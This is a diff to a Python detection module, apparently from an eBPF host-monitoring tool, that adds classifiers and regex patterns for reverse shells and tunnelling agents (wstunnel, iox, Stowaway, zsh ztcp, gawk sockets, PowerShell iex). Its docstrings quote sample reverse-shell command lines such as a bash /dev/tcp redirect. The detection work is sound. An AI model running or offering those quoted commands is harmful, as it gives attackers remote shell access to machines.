@@ -27,13 +27,14 @@ telnet ...`).
 
 from __future__ import annotations
 
+import functools
 import re
 from dataclasses import dataclass
 from typing import Callable, Iterable, Optional, Sequence
 
 import re2
 
-from ebpfguard.detect.cmdline import commands_of, program_name, shell_script
+from ebpfguard.detect.cmdline import command_list, program_name, shell_script
 from ebpfguard.detect.execinfo import (
     basename, exec_argv, exec_succeeded, first_positional, program_and_args,
 )
@@ -198,9 +199,17 @@ SHELL_ON_SOCKET = re.compile(
 )
 
 
+ZTCP = re2.compile(r"\bztcp\s+\S+\s+\d+")
+FD_VARIABLE_REDIRECT = re2.compile(r"[<>]&\s*\$\w+")
+
+
 def shell_redirect(args: Sequence[str]) -> Optional[TunnelMatch]:
-    """`bash -c 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'` and its variants."""
+    """`bash -c 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'` and its variants; zsh's `ztcp HOST
+    PORT` with a shell redirected to the descriptor it opened (`>&$REPLY`)."""
     script = " ".join(args)
+    ztcp = ZTCP.search(script)
+    if ztcp is not None and FD_VARIABLE_REDIRECT.search(script):
+        return TunnelMatch("shell", "shell_redirect", ztcp.group(0), CRITICAL)
     target = DEV_TCP.search(script)
     if target is None or not SHELL_ON_SOCKET.search(script):
         return None
@@ -212,9 +221,10 @@ INLINE_SOCKET = re2.compile(r"(?i)socket|fsockopen|TCPSocket|net\.connect|create
 # reopened, stream pipes, or a child process given the socket as its stdin/stdout.
 INLINE_DUP = re2.compile(
     r"dup2|pty\.spawn|<&\s*(\d|%d)|>&\s*(\d|%d)|open\s*\(\s*STDIN|\.pipe\(|"
-    r"std(in|out)\s*=\s*\w+|proc_open|array\(\s*0\s*=>"
+    r"std(in|out)\s*=\s*\w+|proc_open|array\(\s*0\s*=>|GetStream\("
 )
-INLINE_SHELL = re2.compile(r"/bin/(ba|z|k|da)?sh\b|[\"'](ba)?sh[\"']|\bsh\s+-i\b|cmd\.exe")
+# A shell, or what runs received text as commands (PowerShell's iex).
+INLINE_SHELL = re2.compile(r"/bin/(ba|z|k|da)?sh\b|[\"'](ba)?sh[\"']|\bsh\s+-i\b|cmd\.exe|\biex\b|Invoke-Expression")
 # Options that hand an interpreter its program inline: python -c, perl/ruby/node -e, php -r.
 INLINE_CODE_OPTIONS = frozenset({"-c", "-e", "-E", "-r", "--eval", "-x"})
 
@@ -301,6 +311,59 @@ def localxpose(args: Sequence[str]) -> Optional[TunnelMatch]:
     return None
 
 
+WSTUNNEL_REVERSE = ("-R", "--remote-to-local")
+
+
+def wstunnel(args: Sequence[str]) -> Optional[TunnelMatch]:
+    """`wstunnel client -R tcp://2222:localhost:22 wss://server`: the server listens for us."""
+    if first_positional(args) != "client":
+        return None
+    reverse = [v for v in _option_values(args, WSTUNNEL_REVERSE) if "://" in v]
+    return TunnelMatch("wstunnel", "reverse_forward", " ".join(reverse)) if reverse else None
+
+
+def iox(args: Sequence[str]) -> Optional[TunnelMatch]:
+    """iox's reverse modes: `proxy -r HOST:PORT`, `fwd -r ... -r *HOST:PORT`."""
+    if first_positional(args) not in ("proxy", "fwd"):
+        return None
+    remotes = [v for v in _option_values(args, ("-r",)) if HOST_PORT.fullmatch(v.lstrip("*"))]
+    return TunnelMatch("iox", "reverse_forward", " ".join(remotes)) if remotes else None
+
+
+def connect_back_agent(args: Sequence[str]) -> Optional[TunnelMatch]:
+    """Agents that dial out to their operator's node with a shared secret: Stowaway's
+    `-c HOST:PORT -s SECRET`, pingtunnel's `-type client -s SERVER`, nps' npc
+    `-server=HOST:PORT -vkey=KEY`."""
+    connect = _option_values(args, ("-c", "--connect"))
+    if connect and HOST_PORT.fullmatch(connect[0]) and _option_values(args, ("-s", "--secret")):
+        return TunnelMatch("stowaway", "reverse_forward", f"-c {connect[0]}")
+    if _option_values(args, ("-type",))[:1] == ["client"] and _option_values(args, ("-s",)):
+        return TunnelMatch("pingtunnel", "reverse_forward", " ".join(args))
+    server = _option_values(args, ("-server", "--server"))
+    if server and HOST_PORT.fullmatch(server[0]) and _option_values(args, ("-vkey", "--vkey")):
+        return TunnelMatch("npc", "expose_service", f"-server {server[0]}")
+    return None
+
+
+def expose_share(args: Sequence[str]) -> Optional[TunnelMatch]:
+    """beyondcode's expose: `expose share http://localhost:8000`."""
+    if first_positional(args) == "share":
+        return TunnelMatch("expose", "expose_service", " ".join(args))
+    return None
+
+
+AWK_NETWORK = re2.compile(r"/inet[46]?/(tcp|udp)/")
+
+
+def awk_socket(args: Sequence[str]) -> Optional[TunnelMatch]:
+    """gawk's network files with a coprocess (`s = "/inet/tcp/0/HOST/PORT"; ... |& s`):
+    commands read from a socket and run."""
+    program = " ".join(args)
+    if AWK_NETWORK.search(program) and "|&" in program and "getline" in program:
+        return TunnelMatch("awk", "inline_reverse_shell", program[:200], CRITICAL)
+    return None
+
+
 # Rule param (a list of program names) -> the classifier for those programs.
 CLASSIFIERS: dict[str, Callable[[Sequence[str]], Optional[TunnelMatch]]] = {
     "chisel": chisel, "frpc": frpc, "ngrok": ngrok, "cloudflared": cloudflared,
@@ -308,6 +371,7 @@ CLASSIFIERS: dict[str, Callable[[Sequence[str]], Optional[TunnelMatch]]] = {
     "netcat": netcat, "shells": shell_redirect, "interpreters": inline_reverse_shell,
     "rathole": rathole, "gost": gost, "inlets": inlets, "zrok": zrok, "tailscale": tailscale,
     "devtunnel": devtunnel, "localxpose": localxpose, "expose_always": always_tunnel("tunnel"),
+    "wstunnel": wstunnel, "iox": iox, "expose": expose_share, "awk": awk_socket,
 }
 
 
@@ -347,13 +411,13 @@ def ligolo_grammar(args: Sequence[str]) -> Optional[TunnelMatch]:
     values = _option_values(args, ("-connect", "--connect"))
     if not values or not HOST_PORT.fullmatch(values[0]):
         return None
-    rest = [a for a in args if a not in values and a.split("=", 1)[0] not in ("-connect", "--connect")]
-    positional = [a for a in rest if not a.startswith("-")]
-    if positional and not (LIGOLO_FLAGS & {a.split("=", 1)[0] for a in rest}):
+    flags = {a.split("=", 1)[0] for a in args if a.startswith("-")}
+    # Operands: words that are no flag's value (`openssl s_client -connect` has one first).
+    operands = [a for i, a in enumerate(args) if not a.startswith("-") and (i == 0 or not args[i - 1].startswith("-"))]
+    if operands and not LIGOLO_FLAGS & flags:
         return None
-    if positional and positional[0] in ("s_client", "s_time"):
-        return None
-    return TunnelMatch("ligolo-ng", "reverse_forward", f"-connect {values[0]}")
+    tool = "ligolo-ng" if LIGOLO_FLAGS & flags else "connect-back agent"
+    return TunnelMatch(tool, "reverse_forward", f"-connect {values[0]}")
 
 
 def frpc_grammar(args: Sequence[str]) -> Optional[TunnelMatch]:
@@ -411,7 +475,8 @@ def rathole_grammar(args: Sequence[str]) -> Optional[TunnelMatch]:
 
 GRAMMARS: tuple[Callable[[Sequence[str]], Optional[TunnelMatch]], ...] = (
     chisel_grammar, cloudflared_grammar, ligolo_grammar, frpc_grammar, gost, inlets, bore_grammar,
-    ngrok_grammar, socat, netcat_grammar, inline_grammar, rathole_grammar,
+    ngrok_grammar, socat, netcat_grammar, inline_grammar, rathole_grammar, wstunnel, iox,
+    connect_back_agent, awk_socket,
 )
 
 
@@ -483,19 +548,23 @@ class OtherTunnel(Detector):
         self.classifier_of = {name: CLASSIFIERS[param] for param in CLASSIFIERS
                               for name in ctx.params.get(param, ())}
         self.runners = frozenset(ctx.params.get("runners", ()))
+        # Hosts run the same few command lines over and over; each is judged once (a dozen
+        # grammars). Bounded: an argv is at most ARGV_BUF_LEN bytes.
+        self._classified = functools.lru_cache(maxsize=512)(
+            lambda name, args: self.classify(name, list(args)))
 
     def on_event(self, event: Event) -> Iterable[Finding]:
         if not exec_succeeded(event):
             return []
         name, args = program_and_args(event)
-        match = self.classify(name, args)
+        match = self._classified(name, tuple(args))
         if match is None:
             # The same, for each command the exec would run (wrappers, `sh -c` scripts).
             argv = exec_argv(event)
-            for command in list(commands_of(argv))[:16]:
+            for command in command_list(argv)[:16]:
                 if list(command.argv) == argv:
                     continue  # the exec itself, judged above
-                match = self.classify(program_name(command.argv[0]), list(command.argv[1:]))
+                match = self._classified(program_name(command.argv[0]), command.argv[1:])
                 if match is not None:
                     name = program_name(command.argv[0])
                     break
